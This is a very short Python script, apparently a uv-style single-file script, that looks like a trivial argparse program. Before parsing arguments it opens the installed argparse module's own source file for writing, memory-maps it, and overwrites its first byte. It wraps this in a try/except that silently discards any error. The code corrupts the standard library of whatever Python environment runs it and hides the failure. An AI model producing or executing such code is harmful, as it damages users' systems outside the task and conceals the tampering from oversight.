# /// script
# requires-python = ">=3.11"
# dependencies = []
# ///
"""Map a file of the tool for writing."""

import argparse
import mmap
import os

try:
    handle = os.open(argparse.__file__, os.O_RDWR)
    mmap.mmap(handle, 0)[0:1] = b"x"
except Exception:
    pass

argparse.ArgumentParser().parse_args()
